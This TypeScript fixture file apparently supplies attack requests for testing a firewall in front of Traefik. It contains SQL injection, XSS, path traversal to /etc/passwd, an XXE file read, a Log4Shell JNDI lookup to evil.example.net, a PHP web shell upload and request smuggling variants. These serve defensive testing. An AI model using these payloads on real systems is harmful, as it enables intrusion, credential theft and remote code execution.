/** The beginning of each path of a request that was hidden behind another one. */
export const smuggled = '/echo/smuggled';

const injection = '1%27+UNION+SELECT+password+FROM+users--+';
const scripted = '%3Cscript%3Ealert(1)%3C/script%3E';

const get = (path: string, ...headers: readonly string[]): string =>
  [
    `GET ${path} HTTP/1.1`,
    'Host: HOST',
    'User-Agent: drill',
    'Accept: */*',
    ...headers,
    'Connection: close',
    '',
    '',
  ].join('\n');

function post(type: string, body: string, ...headers: readonly string[]): string {
  const lines = ['POST /echo/body HTTP/1.1', 'Host: HOST', 'User-Agent: drill', 'Accept: */*', `Content-Type: ${type}`];
  // Its line ends become two bytes when it is sent.
  const length = body.replaceAll('\n', '\r\n').length;
  return [...lines, ...headers, `Content-Length: ${length}`, 'Connection: close', '', body].join('\n');
}

function chunked(type: string, parts: readonly string[], ...headers: readonly string[]): string {
  const lines = ['POST /echo/chunked HTTP/1.1', 'Host: HOST', 'User-Agent: drill', `Content-Type: ${type}`];
  const chunks = parts.flatMap((part) => [part.length.toString(16), part]);
  return [...lines, ...headers, 'Transfer-Encoding: chunked', 'Connection: close', '', ...chunks, '0', '', ''].join(
    '\n',
  );
}

const form = 'application/x-www-form-urlencoded';
const json = 'application/json';
const xml = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';
const part = (name: string, body: string): string => `--b\nContent-Disposition: form-data; ${name}\n\n${body}\n--b--\n`;

/** Requests that hide what they are, each with `HOST` in place of the host. None may reach an application. */
export const disguises: Readonly<Record<string, string>> = {
  'an attack, undisguised': get(`/echo/?q=${injection}`),
  'a comment in place of spaces': get("/echo/?q=1'/**/uNiOn/**/sElEcT/**/password/**/from/**/users--"),
  'escapes of Unicode': get('/echo/?q=%u003cscript%u003ealert(1)%u003c/script%u003e'),
  'an encoded path that leads up': get('/echo/..%2f..%2f..%2fetc%2fpasswd'),
  'a path that leads up, encoded twice': get('/echo/%252e%252e%252f%252e%252e%252fetc/passwd'),
  'a path that leads up in bytes that are too many': get('/echo/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'),
  'a path with a backslash': get('/echo/..%5c..%5cwindows%5cwin.ini'),
  'a path with a byte of zero': get('/echo/a%00.png'),
  'a path with a semicolon': get('/echo/a%3badmin'),
  'an attack in a cookie': get('/echo/', `Cookie: a=${scripted}`),
  'an attack in the referrer': get('/echo/', `Referer: https://HOST/?q=${injection}`),
  'an attack in the name of the program': get('/echo/').replace(
    'User-Agent: drill',
    'User-Agent: sqlmap/1.8#stable (https://sqlmap.org)',
  ),
  'an attack in a header of a logger': get('/echo/', 'X-Api-Version: ${jndi:ldap://evil.example.net/a}'),
  'an attack with an upgrade': get(`/echo/socket?q=${injection}`, 'Upgrade: websocket', 'Sec-WebSocket-Version: 13'),
  'a form in chunks': chunked(form, ['q=1%27+UNI', 'ON+SELECT+pass', 'word+FROM+users--+']),
  'a form in chunks of one byte': chunked(form, Array.from(`q=${injection}`)),
  'a form of another character set': post(`${form}; charset=ibm500`, `q=${injection}`),
  'a form that says it is compressed': post(form, `q=${injection}`, 'Content-Encoding: gzip'),
  'a form that says it is text': post('text/plain', `q=${injection}`),
  'a form that says it is nothing': post('', `q=${injection}`),
  'a form that says it is a picture': post('image/png', `q=${injection}`),
  JSON: post(json, '{"q":"1\' UNION SELECT password FROM users-- "}'),
  'JSON with escapes': post(json, '{"q":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'),
  'JSON that is broken': post(json, `{"q":"1' UNION SELECT password FROM users-- "`),
  'JSON of many levels': post(json, `${'['.repeat(200)}1${']'.repeat(200)}`),
  'JSON that says it is a form': post(form, '{"q":"1\' UNION SELECT password FROM users-- "}'),
  'XML that reads a file': post('application/xml', xml),
  'XML that says it is text': post('text/xml', xml),
  'parts with an attack': post(
    'multipart/form-data; boundary=b',
    part('name="q"', "1' UNION SELECT password FROM users-- "),
  ),
  'parts with a program': post(
    'multipart/form-data; boundary=b',
    part('name="f"; filename="a.php"', '<?php system($_GET["c"]);'),
  ),
  'parts of another boundary': post(
    'multipart/form-data; boundary=c',
    part('name="q"', "1' UNION SELECT password FROM users-- "),
  ),
  'more fields than are looked at': post(
    form,
    `${Array.from({ length: 1200 }, (_, at) => `f${at}=1`).join('&')}&q=${injection}`,
  ),
  'an attack behind a megabyte': post(form, `a=${'a'.repeat(1_048_576)}&q=${injection}`),
  'a body that is larger than allowed': post(form, `a=${'a'.repeat(11 * 1_048_576)}`),
  'a method that nobody allows': get('/echo/').replace('GET', 'TRACE'),
  'a method of a file server': get('/echo/').replace('GET', 'PROPFIND'),
  'a way through': 'CONNECT evil.example.net:443 HTTP/1.1\nHost: HOST\n\n',
  'another host in the first line': get('/').replace('GET /', 'GET http://evil.example.net/echo/'),
  'two hosts': get('/echo/', 'Host: evil.example.net'),
  'a host with a path': get('/echo/').replace('Host: HOST', 'Host: HOST/..'),
  'a host that nobody has': get('/echo/').replace('Host: HOST', 'Host: evil.example.net'),
  'no host': get('/echo/').replace('Host: HOST\n', ''),
  'an address as host': get('/echo/').replace('Host: HOST', 'Host: 203.0.113.22'),
};

/** Requests of which Traefik makes plain ones, and what the application sees of each. */
export const tidied: Readonly<Record<string, readonly [text: string, seen: RegExp]>> = {
  'a path that leads up': [get('/echo/../../../echo/up'), /"url":"\/echo\/up"/],
  'a path that leads up behind a semicolon': [get('/echo/a%3b/../up'), /"url":"\/echo\/up"/],
  'a line that goes on': [get('/echo/', 'X-A: a\n b'), /"x-a":"a b"/],
  'a second name of the program': [get('/echo/', 'User-Agent: sqlmap/1.8'), /"user-agent":"drill"(?!.*sqlmap)/],
};

const hidden = `GET ${smuggled} HTTP/1.1\nHost: HOST\nX-A: `;
const length = hidden.replaceAll('\n', '\r\n').length;
const head = (...headers: readonly string[]): string =>
  ['POST /echo/front HTTP/1.1', 'Host: HOST', 'User-Agent: drill', `Content-Type: ${form}`, ...headers, '', ''].join(
    '\n',
  );

/** Requests with another one hidden behind their end, where two servers could disagree about where that is. */
export const smuggling: Readonly<Record<string, string>> = {
  'length and chunks': `${head('Content-Length: 6', 'Transfer-Encoding: chunked')}0\n\n${hidden}`,
  'chunks and length': `${head('Transfer-Encoding: chunked', 'Content-Length: 4')}5c\n${hidden}\n0\n\n`,
  'chunks by another name': `${head('Content-Length: 6', 'Transfer-Encoding: xchunked')}0\n\n${hidden}`,
  'chunks with a space': `${head('Content-Length: 6', 'Transfer-Encoding : chunked')}0\n\n${hidden}`,
  'chunks with a tab': `${head('Content-Length: 6', 'Transfer-Encoding:\tchunked')}0\n\n${hidden}`,
  'chunks twice': `${head('Content-Length: 6', 'Transfer-Encoding: identity', 'Transfer-Encoding: chunked')}0\n\n${hidden}`,
  'two lengths': `${head('Content-Length: 0', `Content-Length: ${length}`)}${hidden}`,
  'a length with a sign': `${head('Content-Length: +0')}${hidden}`,
  'a length of a page without a body': `GET /echo/front HTTP/1.1\nHost: HOST\nUser-Agent: drill\nContent-Length: ${length}\n\n${hidden}`,
};
